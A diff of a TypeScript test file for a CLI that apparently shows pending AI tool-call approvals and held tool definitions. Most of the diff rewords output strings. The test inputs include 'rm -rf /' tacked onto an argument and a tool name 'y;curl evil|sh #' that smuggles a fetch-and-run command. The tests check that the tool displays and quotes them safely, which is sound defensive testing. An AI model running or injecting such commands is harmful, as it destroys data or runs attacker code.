@@ -21,22 +21,22 @@ const options = { style: PLAIN, now: NOW, width: Number.POSITIVE_INFINITY, canAl
 const lines = (text: string): string[] => text.split('\n');
 
 describe('renderApprovals', () => {
-  it('shows who asks for what, and the next step', () => {
+  it('shows caller, tool and the next step', () => {
     const list = [
       approval('abcdef0123'),
       approval('abcdef9999', { state: 'allowed', expiresAt: NOW + 60_000, arguments: '{"a":"\u202e"}' }),
     ];
     expect(lines(renderApprovals(list, options))).toEqual([
-      '? files.write_file  open, asked by laptop 12 s ago  abcdef0',
+      '? files.write_file  open, requested by laptop 12 s ago  abcdef0',
       '  {"path":"/tmp/x"}',
       '',
-      '- files.write_file  allowed, 1 min left, asked by laptop 12 s ago  abcdef9',
+      '- files.write_file  allowed, 1 min left, requested by laptop 12 s ago  abcdef9',
       String.raw`  {"a":"\u202e"}`,
       '',
-      'Next: pincer approvals allow abcdef0, or deny',
+      'Next: pincer approvals allow abcdef0, or pincer approvals deny abcdef0',
       '',
     ]);
-    expect(renderApprovals([], options)).toBe('Nothing waits for you.\n');
+    expect(renderApprovals([], options)).toBe('No call is waiting for your approval.\n');
   });
 
   const shownIn = (text: string): string =>
@@ -45,7 +45,7 @@ describe('renderApprovals', () => {
       .map((line) => line.slice(2))
       .join('');
 
-  it('shows all of every question, in lines of the width of a terminal, whatever else is asked', () => {
+  it('shows every call in full, in lines that fit the terminal', () => {
     const text = `{"text":"${'x'.repeat(300)}; rm -rf /"}`;
     const others = [
       approval('abcdef0123', { arguments: text }),
@@ -58,10 +58,10 @@ describe('renderApprovals', () => {
       expect(line.length).toBeLessThanOrEqual(80);
   });
 
-  it('says in a list how long a very long one is, and where all of it is shown', () => {
+  it('cuts a very long call in the list and says how to see all of it', () => {
     const long = approval('abcdef0123', { arguments: `{"text":"${'x'.repeat(9_000)}; rm -rf /"}` });
     expect(renderApprovals([long], { ...options, width: 80 })).toContain(
-      '  … 9021 characters in all. See them: pincer approvals show abcdef, or --json\n',
+      '  … 9021 characters in total. Read all: pincer approvals show abcdef, or add --json\n',
     );
     expect(renderApprovals([long], { ...options, width: 80 })).toMatch(
       /\nNext: pincer approvals show abcdef\n$/,
@@ -70,7 +70,7 @@ describe('renderApprovals', () => {
     expect(renderApprovals([long], options)).toContain(long.arguments);
   });
 
-  it('shortens ids as far as they stay apart', () => {
+  it('shortens ids as far as they stay unambiguous', () => {
     expect(shortIds(['abcdefgh', 'abcdefxy', 'zz'])).toEqual(['abcdefg', 'abcdefx', 'zz']);
   });
 });
@@ -87,7 +87,7 @@ describe('renderHeldTool', () => {
     ],
   };
 
-  it('puts what was accepted beside what is offered', () => {
+  it('shows the accepted and the offered definition', () => {
     expect(lines(renderHeldTool(changed, PLAIN))).toEqual([
       'files.write_file has changed',
       '  description from line 2',
@@ -100,7 +100,7 @@ describe('renderHeldTool', () => {
     ]);
   });
 
-  it('shows all of what is new', () => {
+  it('shows a new tool in full', () => {
     const member = { line: undefined, before: undefined };
     const changes = [
       { ...member, path: 'description', after: 'Writes.\nA file.' },
@@ -115,16 +115,16 @@ describe('renderHeldTool', () => {
     ]);
   });
 
-  it('lists what is held, and the next step', () => {
+  it('lists held tools and the next step', () => {
     expect(lines(renderHeldList([changed], PLAIN))).toEqual([
       '!  files.write_file  changed: description, inputSchema.properties.path',
       '',
-      '1 tool held. Look, then accept: pincer accept files.write_file',
+      '1 tool held. Review and accept: pincer accept files.write_file',
       '',
     ]);
-    expect(renderHeldList([], PLAIN)).toContain('Nothing is held');
+    expect(renderHeldList([], PLAIN)).toContain('No tool is held');
     expect(renderHeldList([{ ...changed, tool: 'y;curl evil|sh #' }], PLAIN)).toContain(
-      "then accept: pincer accept 'files.y;curl evil|sh #'\n",
+      "and accept: pincer accept 'files.y;curl evil|sh #'\n",
     );
   });
 });
